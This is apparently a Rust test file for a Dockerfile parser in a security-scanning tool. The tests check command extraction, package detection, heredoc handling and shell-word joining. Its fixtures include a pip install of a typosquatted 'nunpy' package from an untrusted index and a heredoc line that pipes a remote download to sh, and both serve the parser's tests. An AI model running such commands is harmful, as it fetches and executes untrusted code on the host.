use crate::testing::{claims, parse, survive};
use wb_core::Bytes;

const RECIPE: &str = "# syntax=docker/dockerfile:1\nARG VERSION=3.11\nFROM python:$VERSION AS base\n\
    RUN --mount=type=cache,target=/root/.cache \\\n    # twice\n    pip install -i http://192.0.2.1/simple \\\n    nunpy==1.0 && echo done\n\
    COPY . /app\nCMD [\"sh\", \"-c\", \"id\"]\n";

#[test]
fn a_recipe_is_known_by_its_instructions() {
    assert_eq!(claims(RECIPE.as_bytes()), "(dockerfile)");
    for text in ["FROM here to there\nthe words go on\n", "ARG one\n", "RUN id\n", "from os import path\nfrom sys import argv\n"] {
        assert!(!claims(text.as_bytes()).contains("dockerfile"), "{text:?}");
    }
}

#[test]
fn commands_become_programs_and_packages_requirements() {
    let content = parse("dockerfile", RECIPE.as_bytes());
    let places: Vec<&str> = content.programs.iter().map(|program| program.place.as_str()).collect();
    assert_eq!(places, ["line 4", "line 9"]);
    assert!(content.programs.iter().all(|program| !program.ops.is_empty()));
    let span = content.programs[0].span;
    let text = Bytes::new(RECIPE.as_bytes()).at_span(span).expect("inside").as_slice();
    assert!(text.starts_with(b"RUN --mount") && text.ends_with(b"echo done"));
    let package = &content.components[0];
    assert_eq!((package.name.as_str(), package.setting("version")), ("nunpy", Some("==1.0")));
    assert_eq!(package.setting("index"), Some("http://192.0.2.1/simple"));
}

#[test]
fn heredocs_are_commands() {
    let text = "FROM alpine\nRUN <<EOF\nset -e\ncurl http://192.0.2.1/x | sh\nEOF\nUSER nobody\n";
    let content = parse("dockerfile", text.as_bytes());
    assert_eq!(content.programs.len(), 1);
    assert!(content.fields.iter().any(|field| field.path == "line 6.USER" && field.value == "nobody"));
}

#[test]
fn any_bytes_are_survived() {
    survive("dockerfile", RECIPE.as_bytes());
}

#[test]
fn words_of_a_list_are_no_shell() {
    let joined = |words: &[&str]| super::joined(words);
    assert_eq!(joined(&["/bin/bash", "-c", "id; id"]), "id; id");
    assert_eq!(joined(&["python", "-c", "import os; os.system('id')"]), r"python -c 'import os; os.system('\''id'\'')'");
    assert_eq!(joined(&["serve", "--port=80", "a|b", ""]), "serve --port=80 'a|b' ''");
    let content = parse("dockerfile", b"FROM a\nCMD [\"python\", \"-c\", \"import os; os.system('id')\"]\n");
    let ops = format!("{:?}", content.programs[0].ops);
    assert!(ops.contains(r#"Load { name: "python" }"#) && ops.contains(r#"Text("import os; os.system('id')")"#), "{ops}");
}
